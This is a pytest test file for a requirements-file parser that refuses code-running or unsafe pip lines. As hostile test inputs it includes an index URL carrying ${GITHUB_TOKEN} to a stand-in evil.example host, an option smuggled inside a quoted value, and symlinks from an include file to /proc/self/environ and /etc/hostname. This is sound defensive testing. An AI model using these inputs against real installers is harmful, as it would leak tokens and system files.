"""Requirement files are flattened, and what would run somebody's code is refused with its line."""

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from packaging.requirements import Requirement

from lambdabot.errors import PackagingError
from lambdabot.packaging.requirements import Requirements, read
from lambdabot.requirements_file import FLAGS
from lambdabot.workspace import Workspace
from tests.spot_check import examples

HASH = "sha256:" + "0" * 64


def found(folder: Path, text: str, allow_build: tuple[str, ...] = ()) -> Requirements:
    path = folder / "requirements.txt"
    path.write_text(text)
    return read(path, Workspace(folder), source=folder, allow_build=frozenset(allow_build))


def refused(folder: Path, text: str, allow_build: tuple[str, ...] = ()) -> PackagingError:
    with pytest.raises(PackagingError) as raised:
        found(folder, text, allow_build)
    return raised.value


def texts(requirements: Requirements) -> list[str]:
    return [line.text for line in requirements.requirements]


def test_versions_extras_markers_and_comments_are_kept_or_dropped_as_pip_does(tmp_path: Path) -> None:
    text = (
        "# comment\n\nRequests[socks]>=2,<3 # why\n"
        "tomli==2.0.1; python_version < '3.11'\n  numpy \\\n  ==2.3.4\nidna#not-a-comment\n"
    )
    error = refused(tmp_path, text)
    assert error.what == "requirements.txt:7: this is not a requirement (PEP 508)"
    lines = found(tmp_path, text.replace("idna#not-a-comment\n", ""))
    assert texts(lines) == ["Requests[socks]>=2,<3", "tomli==2.0.1; python_version < '3.11'", "numpy   ==2.3.4"]
    assert [str(line.place) for line in lines.requirements] == [f"requirements.txt:{n}" for n in (3, 4, 5)]


def test_hashes_stay_with_their_requirement(tmp_path: Path) -> None:
    lines = found(tmp_path, f"idna==3.10 \\\n    --hash={HASH} \\\n    --hash {HASH}\nsix\n")
    assert texts(lines) == [f"idna==3.10 --hash={HASH} --hash={HASH}", "six"]
    assert [line.name for line in lines.requirements] == ["idna", "six"]


def test_a_continuation_at_the_end_and_a_comment_after_one_end_the_line(tmp_path: Path) -> None:
    assert texts(found(tmp_path, "idna \\\n# comment \\\nsix \\")) == ["idna", "six"]


def test_a_byte_order_mark_and_windows_line_ends_are_read(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_bytes(b"\xef\xbb\xbfidna\r\nsix\r\n")
    assert texts(
        read(tmp_path / "requirements.txt", Workspace(tmp_path), source=tmp_path, allow_build=frozenset())
    ) == ["idna", "six"]


def test_includes_and_constraints_are_read_relative_to_their_file(tmp_path: Path) -> None:
    (tmp_path / "inner").mkdir()
    (tmp_path / "inner" / "more.txt").write_text("six\n-c limits.txt\n")
    (tmp_path / "inner" / "limits.txt").write_text("six<2\n-r again.txt\n")
    (tmp_path / "inner" / "again.txt").write_text("idna<4\n-r limits.txt\n")
    lines = found(tmp_path, "-r inner/more.txt\n--requirement=inner/more.txt\n-rinner/more.txt\n")
    assert texts(lines) == ["six"]
    assert [line.text for line in lines.constraints] == ["six<2", "idna<4"], "nothing below a constraint is installed"
    assert str(lines.constraints[1].place) == "inner/again.txt:1"


def test_a_package_is_found_by_any_spelling_and_requirements_come_before_constraints(tmp_path: Path) -> None:
    (tmp_path / "c.txt").write_text("ruamel.yaml<1\nsix<2\n")
    lines = found(tmp_path, "-c c.txt\nRuamel_YAML\n")
    assert str((lines.find("ruamel-yaml") or lines.constraints[0]).place) == "requirements.txt:2"
    assert str((lines.find("SIX") or lines.requirements[0]).place) == "c.txt:2"
    assert lines.find("numpy") is None


def test_index_options_are_passed_on_and_local_links_made_absolute(tmp_path: Path) -> None:
    (tmp_path / "wheels").mkdir()
    text = "-i https://index.example/simple\n--extra-index-url=https://more.example\n-f wheels\n--no-index\n--pre\n"
    text += "--find-links https://links.example/\n--only-binary :all:\n--prefer-binary\n--trusted-host x\n"
    assert [line.text for line in found(tmp_path, text).options] == [
        "--index-url https://index.example/simple",
        "--extra-index-url https://more.example",
        f"--find-links {tmp_path / 'wheels'}",
        "--no-index",
        "--pre",
        "--find-links https://links.example/",
    ]


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("-e .", "this is an editable requirement; installing it would run its code here"),
        ("--editable=./lib", "this is an editable requirement"),
        ("--pre -e ./lib", "this is an editable requirement"),
        ("--index-url https://x.example -e ./lib", "this is an editable requirement"),
        ("-e git+https://example.com/x.git#egg=x", "is an editable requirement"),
        ("./lib", "this is a local path"),
        ("lib/", "this is a local path"),
        ("/opt/lib", "is a local path"),
        ("file:///opt/lib", "is a local path"),
        ("lib.tar.gz", "this is a local path"),
        ("./lib-1.0-py3-none-any.whl", "is a local path"),
        ("lib-1.0.tar.gz", "is a local path"),
        ("lib @ file:///opt/lib", "`lib` is required from a local path"),
        ("lib @ ./lib", "`lib` is required from a local path"),
    ],
)
def test_local_and_editable_requirements_are_always_refused(tmp_path: Path, line: str, message: str) -> None:
    error = refused(tmp_path, f"six\n{line}\n", ("lib",))
    assert error.what.startswith("requirements.txt:2: ")
    assert message in error.what
    assert "would run its code here" in error.what
    assert "--find-links" in error.advice
    assert "allow_build" in error.advice


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("git+https://example.com/x.git", "a requirement from version control needs a build"),
        ("lib @ git+ssh://git@example.com/x.git@main", "`lib` is required from version control and needs a build"),
        ("lib @ git+https://example.com/x.whl", "`lib` is required from version control and needs a build"),
        ("https://example.com/lib-1.0.tar.gz", "this address is not that of a wheel and needs a build"),
        ("lib @ https://example.com/lib-1.0.zip", "`lib` is required from a source archive and needs a build"),
        ("lib @ https://example.com/lib-1.0.zip#x.whl", "`lib` is required from a source archive"),
        ("--no-binary lib", "`--no-binary` asks for a build"),
        ("--no-binary=lib,six", "`--no-binary` asks for a build"),
        ("--no-index --no-binary evil", "`--no-binary` asks for a build"),
    ],
)
def test_what_needs_a_build_is_refused_and_allow_build_is_named(tmp_path: Path, line: str, message: str) -> None:
    error = refused(tmp_path, f"six\n{line}\n")
    assert error.what.startswith(f"requirements.txt:2: {message}")
    assert "`allow_build: [" in error.advice


def test_an_address_without_a_name_is_to_be_written_with_one(tmp_path: Path) -> None:
    assert "`NAME @ https://…`" in refused(tmp_path, "https://example.com/lib-1.0.tar.gz\n").advice
    assert "`NAME @ git+https://…`" in refused(tmp_path, "git+https://example.com/lib.git\n").advice


@pytest.mark.parametrize("value", ["lib,evil", "evil,lib", "lib, ,evil", ":all:,lib"])
def test_one_that_is_allowed_brings_no_other_with_it(tmp_path: Path, value: str) -> None:
    assert "asks for a build" in refused(tmp_path, f"--no-binary '{value}'\n", ("lib",)).what


def test_allow_build_lets_named_archives_and_no_binary_through(tmp_path: Path) -> None:
    text = "My_Lib @ https://example.com/lib-1.0.zip\nother @ git+https://example.com/x.git\n--no-binary my.lib\n"
    lines = found(tmp_path, text, ("my-lib", "Other"))
    assert [line.name for line in lines.requirements] == ["my-lib", "other"]
    assert lines.no_binary == {"my-lib"}


@pytest.mark.parametrize("value", [":all:", ":none:"])
def test_no_binary_for_everything_is_refused_whatever_is_allowed(tmp_path: Path, value: str) -> None:
    assert "does not say what to build" in refused(tmp_path, f"--no-binary {value}\n", (":all:", "lib")).what


def test_wheels_by_address_are_taken(tmp_path: Path) -> None:
    text = "https://example.com/Lib_x-1.0-py3-none-any.whl\nsix @ https://example.com/six-1-py3-none-any.whl#sha256=0\n"
    assert [line.name for line in found(tmp_path, text).requirements] == ["lib-x", "six"]


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("six --install-option=x", "this is not a requirement"),
        ("six --hash=none", "this is not a requirement"),
        ("sixhttps://x.example/six-1-py3-none-any.whl", "is a local path"),
        ("https://x.example/six-1.whl file:///six-1.whl", "is a local path"),
        ("six=1", "this is not a requirement"),
        ("six; " + "(" * 2000, "this is not a requirement"),
        ("--index-url 'https://x.example --no-binary evil'", "the value of --index-url has spaces"),
        ("--index-url file:///home/runner", "--index-url is no https address"),
        ("--extra-index-url ./simple", "--extra-index-url is no https address"),
        ("--extra-index-url private=https://x.example", "--extra-index-url is no https address"),
        ("--find-links file:///home/runner", "--find-links is no https address"),
        ("--find-links ..", "--find-links names no folder whose files are all in the workspace"),
        ("--find-links missing", "--find-links names no folder"),
        ("--find-links links", "--find-links names no folder whose files are all in the workspace"),
        ("-r https://example.com/requirements.txt", "--requirement does not work here"),
        ("--global-option=x", "--global-option does not work here"),
        ("--index-url https://${GITHUB_TOKEN}@evil.example", "environment variables are not expanded"),
        ("-r secret.txt", "the file that it names does not lie in the workspace"),
        ("-r pyproject.toml", "the file that it names is no requirements file, by its name"),
    ],
)
def test_other_lines_are_refused_with_their_place(tmp_path: Path, line: str, message: str) -> None:
    (tmp_path / "pyproject.toml").touch()
    (tmp_path / "secret.txt").symlink_to("/proc/self/environ")
    (tmp_path / "links").mkdir()
    (tmp_path / "links/six-1-py3-none-any.whl").symlink_to("/etc/hostname")
    error = refused(tmp_path, f"six\n{line}\n")
    assert error.what.startswith("requirements.txt:2: ")
    assert message in error.what
    assert error.advice


def test_a_line_of_an_included_file_is_not_repeated(tmp_path: Path) -> None:
    (tmp_path / "config.txt").write_text("extraheader = AUTHORIZATION: basic c2VjcmV0\n")
    error = refused(tmp_path, "-r config.txt\n")
    assert error.what == "config.txt:1: this is not a requirement (PEP 508)"
    assert "c2VjcmV0" not in str(error)


def test_files_that_are_no_requirement_files_are_named(tmp_path: Path) -> None:
    (tmp_path / "setup.py").write_text("raise SystemExit\n")
    with pytest.raises(PackagingError, match=r"setup\.py is no requirements file"):
        read(tmp_path / "setup.py", Workspace(tmp_path), source=tmp_path, allow_build=frozenset())


PIECES = st.sampled_from(
    [
        *("six", "idna==3", "lib", "[a]", ";", "python_version < '3'", "--hash=sha256:0"),
        *(" ", "\\\n", "\n", "\r", "\x0b", "\u2028", "#", " #", "'", '"', "=", "@", "${A}"),
        *("-e", "-e ", "-r", "-c", "--pre", "--no-binary", ":all:", "--index-url ", "https://h/"),
        *("./x", "git+https://h/x", "file:///x", "https://h/x.whl", "x.tar.gz"),
    ]
)


@settings(deadline=None, max_examples=examples(400))
@given(pieces=st.lists(PIECES, max_size=12))
def test_whatever_is_written_only_harmless_lines_reach_the_installer(
    tmp_path_factory: pytest.TempPathFactory, pieces: list[str]
) -> None:
    folder = tmp_path_factory.mktemp("any")
    (folder / "requirements.txt").write_bytes("".join(pieces).encode())
    try:
        lines = read(folder / "requirements.txt", Workspace(folder), source=folder, allow_build=frozenset())
    except PackagingError:
        return
    for line in lines.options:
        option, _, value = line.text.partition(" ")
        assert option in {*FLAGS, "--index-url", "--extra-index-url", "--find-links"}
        assert " -" not in f" {value}"
    for line in lines.requirements:
        assert len(line.text.splitlines()) == 1
        if not line.text.startswith("https://"):
            address = Requirement(line.text.partition(" --hash")[0]).url
            assert address is None or address.startswith("https://")
